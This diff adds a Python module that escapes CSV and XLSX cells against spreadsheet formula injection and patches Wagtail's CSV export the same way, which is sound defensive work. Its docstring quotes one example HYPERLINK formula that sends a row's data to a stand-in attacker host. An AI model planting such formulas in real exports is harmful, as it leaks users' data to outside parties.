@@ -1,0 +1,50 @@
+"""Cells for every CSV and XLSX the platform writes, safe to open in a spreadsheet program.
+
+A participant's own name, district or school goes into reports the program office opens in
+Excel or Google Sheets. Text that starts with = + - @, a tab or a carriage return would be
+read there as a formula (``=HYPERLINK("http://evil.test/?d="&A2, "Details")`` sends the
+row away). So text cells are escaped: in CSV with a leading apostrophe, which spreadsheet
+programs show as text and hide; in XLSX they are typed as text, never as formulas.
+Numbers stay numbers.
+"""
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_cell(value):
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def csv_row(values):
+    return [csv_cell(value) for value in values]
+
+
+def xlsx_row(sheet, values, font=None):
+    """Write-only cells for one row: strings as text cells (never formulas)."""
+    from openpyxl.cell import WriteOnlyCell
+
+    cells = []
+    for value in values:
+        cell = WriteOnlyCell(sheet, value=value)
+        if isinstance(value, str):
+            cell.data_type = "s"
+        if font is not None:
+            cell.font = font
+        cells.append(cell)
+    return cells
+
+
+def protect_wagtail_exports():
+    """The Wagtail admin's CSV exports (reports, audit log) write text cells unescaped (its
+    XLSX already types them as text): escape them the same way."""
+    from wagtail.admin.views.mixins import SpreadsheetExportMixin
+
+    def write_csv_row(self, writer, row_dict):
+        return writer.writerow(
+            {field: csv_cell(self.preprocess_field_value(field, value, self.FORMAT_CSV))
+             for field, value in row_dict.items()}
+        )
+
+    SpreadsheetExportMixin.write_csv_row = write_csv_row
